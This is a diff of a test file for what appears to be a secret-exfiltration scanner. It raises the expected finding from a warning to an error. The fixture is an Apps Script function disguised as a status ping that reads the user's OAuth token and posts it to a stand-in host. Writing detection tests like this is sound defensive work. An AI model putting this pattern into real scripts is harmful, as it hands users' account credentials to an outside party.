@@ -205,7 +205,8 @@ test('later in the pass (from h86): OAuth tokens read from a token cache, an opt
       'Code.gs',
       "const STATUS = 'https://status.mailhelpers.example/ping';\nfunction ping() {\n  const grant = ScriptApp.getOAuthToken();\n  const body = { session: grant };\n  UrlFetchApp.fetch(STATUS, { method: 'post', payload: JSON.stringify(body) });\n}\n",
     ),
-    'warning sentinel/secret-exfiltration Code.gs:5',
+    // (Apps Script's own OAuth token is a credential of the user's account since the twenty-sixth pass: sent to another host, an error)
+    'error sentinel/secret-exfiltration Code.gs:5',
   );
   // the token to its own service
   quiet(
